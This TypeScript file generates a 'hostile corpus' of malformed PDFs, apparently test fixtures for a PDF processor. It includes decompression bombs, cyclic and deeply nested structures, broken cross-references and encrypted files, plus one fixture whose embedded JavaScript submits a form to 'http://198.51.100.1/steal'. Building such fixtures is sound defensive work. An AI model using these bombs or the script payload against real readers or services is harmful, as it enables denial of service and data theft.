import { createCipheriv, createHash } from 'node:crypto';
import zlib from 'node:zlib';

/**
 * Hand-written PDF bytes for the hostile corpus. pdf-lib repairs or refuses most of what is
 * needed here (broken cross-references, encryption, loops), so the objects are written directly.
 */

export type PdfBody = string | Buffer;

const latin1 = (s: string) => Buffer.from(s, 'latin1');

/** A stream object body: the dictionary gets its /Length, the data is kept byte for byte. */
export function stream(dict: string, data: Buffer): Buffer {
  return Buffer.concat([latin1(`<< ${dict} /Length ${data.length} >>\nstream\n`), data, latin1('\nendstream')]);
}

export interface AssembleOptions {
  /** Extra trailer entries besides /Size, e.g. `/Root 1 0 R`. */
  trailer: string;
  /** `valid` writes true offsets; `broken` writes wrong ones; `missing` writes no table and a bad startxref. */
  xref?: 'valid' | 'broken' | 'missing';
}

/** Numbers the bodies 1..n, writes them with a cross-reference table and a trailer. */
export function assemble(bodies: PdfBody[], options: AssembleOptions): Buffer {
  const parts: Buffer[] = [latin1('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')];
  let offset = parts[0]!.length;
  const offsets: number[] = [];
  bodies.forEach((body, i) => {
    const chunk = Buffer.concat([latin1(`${i + 1} 0 obj\n`), typeof body === 'string' ? latin1(body) : body, latin1('\nendobj\n')]);
    offsets.push(offset);
    parts.push(chunk);
    offset += chunk.length;
  });
  const mode = options.xref ?? 'valid';
  const trailer = `trailer\n<< /Size ${bodies.length + 1} ${options.trailer} >>\n`;
  if (mode === 'missing') {
    parts.push(latin1(`${trailer}startxref\n987654\n%%EOF\n`));
    return Buffer.concat(parts);
  }
  const rows = offsets.map((o, i) => `${String(mode === 'valid' ? o : 7 + i * 3).padStart(10, '0')} 00000 n \n`);
  parts.push(latin1(`xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n${rows.join('')}${trailer}startxref\n${offset}\n%%EOF\n`));
  return Buffer.concat(parts);
}

/** Words enough for the text layer to count as real text. */
export const SAMPLE_LINES = [
  'HOSTILE CORPUS SAMPLE LETTER',
  'Acme Widgets Limited, company number 09446231',
  'This page carries a real text layer.',
];

function escapeText(s: string): string {
  return s.replace(/[\\()]/g, (c) => `\\${c}`);
}

export function textContent(lines: string[] = SAMPLE_LINES): Buffer {
  const ops = lines.map((line, i) => `BT /F1 12 Tf 72 ${760 - i * 18} Td (${escapeText(line)}) Tj ET`).join('\n');
  return latin1(ops);
}

const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>';
const page = (parent: number, font: number, contents: number) =>
  `<< /Type /Page /Parent ${parent} 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 ${font} 0 R >> >> /Contents ${contents} 0 R >>`;

/** One page of text: catalog 1, pages 2, page 3, font 4, content 5. */
export function onePagePdf(options: { xref?: AssembleOptions['xref']; catalogExtra?: string; lines?: string[] } = {}): Buffer {
  return assemble(
    [
      `<< /Type /Catalog /Pages 2 0 R ${options.catalogExtra ?? ''} >>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      page(2, 4, 5),
      FONT,
      stream('', textContent(options.lines)),
    ],
    { trailer: '/Root 1 0 R', xref: options.xref },
  );
}

/** Many pages sharing one font and one content stream, so even 500 pages stay a few tens of KB. */
export function manyPagesPdf(count: number): Buffer {
  const firstPage = 5;
  const kids = Array.from({ length: count }, (_, i) => `${firstPage + i} 0 R`).join(' ');
  return assemble(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
      FONT,
      stream('', textContent()),
      ...Array.from({ length: count }, () => page(2, 3, 4)),
    ],
    { trailer: '/Root 1 0 R' },
  );
}

/** A page tree whose root claims `count` pages but holds one. */
export function lyingCountPdf(count: string): Buffer {
  return assemble(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< /Type /Pages /Kids [3 0 R] /Count ${count} >>`,
      page(2, 4, 5),
      FONT,
      stream('', textContent()),
    ],
    { trailer: '/Root 1 0 R' },
  );
}

export function noPagesPdf(): Buffer {
  return assemble(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'], { trailer: '/Root 1 0 R' });
}

/** A page tree `depth` levels deep with one page at the bottom. */
export function deepPageTreePdf(depth: number): Buffer {
  // 1 catalog, 2..depth+1 Pages nodes, then page, font, content.
  const pageObj = depth + 2;
  const nodes = Array.from({ length: depth }, (_, i) => {
    const self = i + 2;
    const kid = i === depth - 1 ? pageObj : self + 1;
    const parent = i === 0 ? '' : `/Parent ${self - 1} 0 R`;
    return `<< /Type /Pages ${parent} /Kids [${kid} 0 R] /Count 1 >>`;
  });
  return assemble(
    ['<< /Type /Catalog /Pages 2 0 R >>', ...nodes, page(depth + 1, pageObj + 1, pageObj + 2), FONT, stream('', textContent())],
    {
      trailer: '/Root 1 0 R',
    },
  );
}

/** A page tree whose node lists itself among its kids. */
export function cyclicPageTreePdf(): Buffer {
  return assemble(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>',
      page(2, 4, 5),
      FONT,
      stream('', textContent()),
    ],
    { trailer: '/Root 1 0 R' },
  );
}

/** Arrays nested `depth` deep inside the page dictionary and inside the content stream. */
export function nestedArraysPdf(depth: number): Buffer {
  const nested = '['.repeat(depth) + ']'.repeat(depth);
  const content = Buffer.concat([textContent(), latin1(`\n${nested} pop\n`)]);
  return assemble(
    [
      `<< /Type /Catalog /Pages 2 0 R /Junk ${nested} >>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      page(2, 4, 5).replace('/Type /Page', `/Type /Page /Deep ${nested}`),
      FONT,
      stream('', content),
    ],
    { trailer: '/Root 1 0 R' },
  );
}

/** Dictionaries nested `depth` deep. */
export function nestedDictionariesPdf(depth: number): Buffer {
  const nested = '<< /A '.repeat(depth) + '1' + ' >>'.repeat(depth);
  return onePagePdf({ catalogExtra: `/Deep ${nested}` });
}

/**
 * Everything but the catalog lives in object streams, chained through /Extends into a loop, and
 * one of them holds dictionaries nested `depth` deep. The cross-reference is a stream (PDF 1.5).
 */
export function objectStreamsPdf(depth: number): Buffer {
  const nested = '<< /A '.repeat(depth) + '1' + ' >>'.repeat(depth);
  // Objects 2..5 (pages, page, font, nested junk) in object stream 7, which extends stream 8, which extends 7.
  const inner = ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>', page(2, 4, 6), FONT, nested];
  let header = '';
  let body = '';
  inner.forEach((obj, i) => {
    header += `${i + 2} ${body.length} `;
    body += `${obj}\n`;
  });
  const objStm = (extendsRef: number, data: string, first: number, n: number) =>
    stream(`/Type /ObjStm /N ${n} /First ${first} /Extends ${extendsRef} 0 R`, latin1(data));
  const streamSeven = objStm(8, header + body, header.length, inner.length);
  const streamEight = objStm(7, '9 0 << /Loop true >>\n', 4, 1);

  const parts: Buffer[] = [latin1('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')];
  const offsets = new Map<number, number>();
  const add = (num: number, body: PdfBody) => {
    offsets.set(num, Buffer.concat(parts).length);
    parts.push(latin1(`${num} 0 obj\n`), typeof body === 'string' ? latin1(body) : body, latin1('\nendobj\n'));
  };
  add(1, `<< /Type /Catalog /Pages 2 0 R /Junk 5 0 R >>`);
  add(6, stream('', textContent()));
  add(7, streamSeven);
  add(8, streamEight);
  const xrefAt = Buffer.concat(parts).length;
  // Rows for objects 0..10: type (1 byte), field 2 (4 bytes), field 3 (2 bytes).
  const row = (type: number, a: number, b: number) => {
    const r = Buffer.alloc(7);
    r.writeUInt8(type, 0);
    r.writeUInt32BE(a, 1);
    r.writeUInt16BE(b, 5);
    return r;
  };
  const rows = [
    row(0, 0, 65535),
    row(1, offsets.get(1)!, 0),
    row(2, 7, 0),
    row(2, 7, 1),
    row(2, 7, 2),
    row(2, 7, 3),
    row(1, offsets.get(6)!, 0),
    row(1, offsets.get(7)!, 0),
    row(1, offsets.get(8)!, 0),
    row(2, 8, 0),
    row(1, xrefAt, 0),
  ];
  const xref = stream('/Type /XRef /Size 11 /W [1 4 2] /Root 1 0 R', Buffer.concat(rows));
  parts.push(latin1('10 0 obj\n'), xref, latin1(`\nendobj\nstartxref\n${xrefAt}\n%%EOF\n`));
  return Buffer.concat(parts);
}

/** A page whose content stream inflates to `inflatedBytes` of spaces from a few KB on disk. */
export function flateBombPdf(inflatedBytes: number): Buffer {
  const data = zlib.deflateSync(Buffer.concat([textContent(), Buffer.alloc(inflatedBytes, 0x20)]), { level: 9 });
  return assemble(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      page(2, 4, 5),
      FONT,
      stream('/Filter /FlateDecode', data),
    ],
    { trailer: '/Root 1 0 R' },
  );
}

/** A text-less page drawing one image XObject that declares `side` x `side` pixels but carries a few bytes. */
export function imageBombPdf(side: number): Buffer {
  const pixels = zlib.deflateSync(Buffer.alloc(64 * 1024));
  return assemble(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im1 4 0 R >> >> /Contents 5 0 R >>',
      stream(
        `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode`,
        pixels,
      ),
      stream('', latin1('q 595 0 0 842 0 0 cm /Im1 Do Q')),
    ],
    { trailer: '/Root 1 0 R' },
  );
}

/** A single text-less page whose MediaBox is `box`. */
function blankPagePdf(box: string): Buffer {
  return assemble(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox ${box} /Contents 4 0 R >>`,
      stream('', latin1('0 0 0 rg 100 100 50 50 re f')),
    ],
    { trailer: '/Root 1 0 R' },
  );
}

/** The largest page PDF allows (200 x 200 inches). */
export const hugePagePdf = () => blankPagePdf('[0 0 14400 14400]');

/** A page whose size is no size: a negative width far past any float's page, and a height that is no number. */
export const sizelessPagePdf = () => blankPagePdf('[0 0 -1e30 NaN]');

/** Opens with /OpenAction JavaScript and a document-level script in the name tree. */
export function javascriptPdf(): Buffer {
  const js = "app.alert('pwned'); this.submitForm('http://198.51.100.1/steal');";
  return assemble(
    [
      '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript << /Names [(boot) 6 0 R] >> >> >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      page(2, 4, 5).replace('>> /Contents', '>> /AA << /O 6 0 R >> /Contents'),
      FONT,
      stream('', textContent()),
      `<< /Type /Action /S /JavaScript /JS (${escapeText(js)}) >>`,
    ],
    { trailer: '/Root 1 0 R' },
  );
}

/** The first `fraction` of a valid PDF, as a failed download leaves it. */
export function truncatedPdf(fraction: number): Buffer {
  const whole = onePagePdf();
  return whole.subarray(0, Math.floor(whole.length * fraction));
}

// --- Encryption: the Standard security handler, revision 2 (RC4, 40-bit), as in ISO 32000-1 7.6.3.

const PASSWORD_PAD = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex');
const md5 = (...parts: Buffer[]) => createHash('md5').update(Buffer.concat(parts)).digest();

/** RC4 is gone from OpenSSL 3's default provider, and it is ten lines. */
function rc4(key: Buffer, data: Buffer): Buffer {
  const s = Array.from({ length: 256 }, (_, i) => i);
  for (let i = 0, j = 0; i < 256; i++) {
    j = (j + s[i]! + key[i % key.length]!) & 0xff;
    [s[i], s[j]] = [s[j]!, s[i]!];
  }
  const out = Buffer.alloc(data.length);
  for (let n = 0, i = 0, j = 0; n < data.length; n++) {
    i = (i + 1) & 0xff;
    j = (j + s[i]!) & 0xff;
    [s[i], s[j]] = [s[j]!, s[i]!];
    out[n] = data[n]! ^ s[(s[i]! + s[j]!) & 0xff]!;
  }
  return out;
}

const padPassword = (password: string) => Buffer.concat([latin1(password), PASSWORD_PAD]).subarray(0, 32);

/**
 * One page of text encrypted with a real Standard security handler. With an empty user password
 * anyone may open it (only the owner's permissions are restricted); with a user password nobody
 * can read it without that password.
 */
export function encryptedPdf(userPassword: string, ownerPassword = 'owner-secret'): Buffer {
  const permissions = -44; // print and copy refused
  const id = createHash('md5').update(`hostile-${userPassword}`).digest();
  const owner = rc4(md5(padPassword(ownerPassword)).subarray(0, 5), padPassword(userPassword));
  const p = Buffer.alloc(4);
  p.writeInt32LE(permissions);
  const fileKey = md5(padPassword(userPassword), owner, p, id).subarray(0, 5);
  const user = rc4(fileKey, PASSWORD_PAD);
  const objectKey = (num: number) => md5(fileKey, Buffer.from([num & 0xff, (num >> 8) & 0xff, (num >> 16) & 0xff, 0, 0])).subarray(0, 10);
  return assemble(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      page(2, 4, 5),
      FONT,
      stream('', rc4(objectKey(5), textContent())),
      `<< /Filter /Standard /V 1 /R 2 /O <${owner.toString('hex')}> /U <${user.toString('hex')}> /P ${permissions} >>`,
    ],
    { trailer: `/Root 1 0 R /Encrypt 6 0 R /ID [<${id.toString('hex')}> <${id.toString('hex')}>]` },
  );
}

/** An /Encrypt dictionary naming a security handler nobody implements. */
export function unknownEncryptionPdf(): Buffer {
  const id = createHash('md5').update('hostile-unknown-handler').digest('hex');
  return assemble(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      page(2, 4, 5),
      FONT,
      stream('', textContent()),
      '<< /Filter /AcmeDRM /V 4 /R 4 /Length 128 >>',
    ],
    { trailer: `/Root 1 0 R /Encrypt 6 0 R /ID [<${id}> <${id}>]` },
  );
}

/** AES is what current tools write; kept here so the corpus has both ciphers (AESV2, revision 4). */
export function aesEncryptedPdf(userPassword: string): Buffer {
  const permissions = -3904;
  const id = createHash('md5').update(`hostile-aes-${userPassword}`).digest();
  const ownerKey = md5(padPassword('owner-secret'));
  let rounds = ownerKey;
  for (let i = 0; i < 50; i++) rounds = md5(rounds);
  let owner = rc4(rounds.subarray(0, 16), padPassword(userPassword));
  for (let i = 1; i <= 19; i++) owner = rc4(Buffer.from(rounds.subarray(0, 16).map((b) => b ^ i)), owner);
  const p = Buffer.alloc(4);
  p.writeInt32LE(permissions);
  let fileKey = md5(padPassword(userPassword), owner, p, id);
  for (let i = 0; i < 50; i++) fileKey = md5(fileKey.subarray(0, 16));
  fileKey = fileKey.subarray(0, 16);
  let user = rc4(fileKey, md5(PASSWORD_PAD, id));
  for (let i = 1; i <= 19; i++) user = rc4(Buffer.from(fileKey.map((b) => b ^ i)), user);
  user = Buffer.concat([user, Buffer.alloc(16)]);
  const objectKey = (num: number) =>
    md5(fileKey, Buffer.from([num & 0xff, (num >> 8) & 0xff, (num >> 16) & 0xff, 0, 0]), latin1('sAlT')).subarray(0, 16);
  const iv = md5(latin1('hostile-iv')).subarray(0, 16);
  const cipher = createCipheriv('aes-128-cbc', objectKey(5), iv);
  const encrypted = Buffer.concat([iv, cipher.update(textContent()), cipher.final()]);
  return assemble(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      page(2, 4, 5),
      FONT,
      stream('', encrypted),
      `<< /Filter /Standard /V 4 /R 4 /Length 128 /CF << /StdCF << /CFM /AESV2 /AuthEvent /DocOpen /Length 16 >> >> /StmF /StdCF /StrF /StdCF /O <${owner.toString('hex')}> /U <${user.toString('hex')}> /P ${permissions} >>`,
    ],
    { trailer: `/Root 1 0 R /Encrypt 6 0 R /ID [<${id.toString('hex')}> <${id.toString('hex')}>]` },
  );
}

// --- Bombs for the bounded-processing corpus: each is a few hundred KB at most, made in well under a second.

const onePage = (contents: Buffer, mediaBox = '0 0 595 842') =>
  assemble(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [${mediaBox}] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>`,
      FONT,
      contents,
    ],
    { trailer: '/Root 1 0 R' },
  );

const ADLER_BASE = 65521;

function adler32(data: Buffer): number {
  let a = 1;
  let b = 0;
  for (const byte of data) {
    a = (a + byte) % ADLER_BASE;
    b = (b + a) % ADLER_BASE;
  }
  return ((b << 16) | a) >>> 0;
}

/** Adler-32 of two pieces from theirs, as zlib's adler32_combine does. */
function adler32Combine(first: number, second: number, secondLength: number): number {
  const rem = secondLength % ADLER_BASE;
  let a = (first & 0xffff) + (second & 0xffff) + ADLER_BASE - 1;
  let b = ((rem * (first & 0xffff)) % ADLER_BASE) + (first >>> 16) + (second >>> 16) + ADLER_BASE - rem;
  a %= ADLER_BASE;
  b %= ADLER_BASE;
  return ((b << 16) | a) >>> 0;
}

/**
 * A zlib stream of `head`, then `unit` repeated to `totalBytes`, then `tail`, without deflating all
 * of it: a block of units is compressed once with a full flush (byte-aligned, dictionary reset) and
 * its output repeated.
 */
function repeatedZlib(head: Buffer, unit: Buffer, totalBytes: number, tail: Buffer): Buffer {
  const perBlock = Math.max(1, Math.floor((1 << 20) / unit.length));
  const block = Buffer.alloc(perBlock * unit.length, unit);
  const copies = Math.max(1, Math.round(totalBytes / block.length));
  const flush = { level: 9, finishFlush: zlib.constants.Z_FULL_FLUSH };
  const blockAdler = adler32(block);
  let check = adler32(head);
  for (let i = 0; i < copies; i++) check = adler32Combine(check, blockAdler, block.length);
  check = adler32Combine(check, adler32(tail), tail.length);
  const compressedBlock = zlib.deflateRawSync(block, flush);
  const trailer = Buffer.alloc(4);
  trailer.writeUInt32BE(check);
  return Buffer.concat([
    Buffer.from([0x78, 0xda]),
    zlib.deflateRawSync(head, flush),
    ...Array.from({ length: copies }, () => compressedBlock),
    zlib.deflateRawSync(tail),
    trailer,
  ]);
}

/** One page whose content stream inflates to `inflatedBytes` (a gibibyte from about a megabyte). */
export function gigaFlateBombPdf(inflatedBytes: number): Buffer {
  return onePage(stream('/Filter /FlateDecode', repeatedZlib(textContent(), latin1(' '), inflatedBytes, latin1('\n'))));
}

/** `runs` text-showing operators on one baseline: a single line of text millions of runs long. */
export function textRunsPdf(runs: number): Buffer {
  const tail = Buffer.concat([latin1(' ET\n'), textContent()]);
  return onePage(stream('/Filter /FlateDecode', repeatedZlib(latin1('BT /F1 1 Tf 20 400 Td '), latin1('(a) Tj'), runs * 6, tail)));
}

/** `count` filled rectangles and no text: all of it must be rendered for OCR. */
export function rectanglesPdf(count: number): Buffer {
  const unit = latin1('1 1 1 1 re f\n');
  return onePage(stream('/Filter /FlateDecode', repeatedZlib(latin1('0 g\n'), unit, count * unit.length, latin1(''))));
}

/** `count` text-less pages of 200 x 200 inches sharing one content stream. */
export function hugePagesPdf(count: number): Buffer {
  const kids = Array.from({ length: count }, (_, i) => `${4 + i} 0 R`).join(' ');
  return assemble(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
      stream('', latin1('0 0 0 rg 100 100 50 50 re f')),
      ...Array.from({ length: count }, () => '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] /Contents 3 0 R >>'),
    ],
    { trailer: '/Root 1 0 R' },
  );
}

/** One page of text whose XMP metadata holds `elements` empty XML elements: pdf.js builds a node for each. */
export function metadataBombPdf(elements: number): Buffer {
  const head = latin1(
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description>',
  );
  const tail = latin1('</rdf:Description></rdf:RDF></x:xmpmeta>');
  const xmp = repeatedZlib(head, latin1('<a/>'), elements * 4, tail);
  return assemble(
    [
      '<< /Type /Catalog /Pages 2 0 R /Metadata 6 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      page(2, 4, 5),
      FONT,
      stream('', textContent()),
      stream('/Type /Metadata /Subtype /XML /Filter /FlateDecode', xmp),
    ],
    { trailer: '/Root 1 0 R' },
  );
}
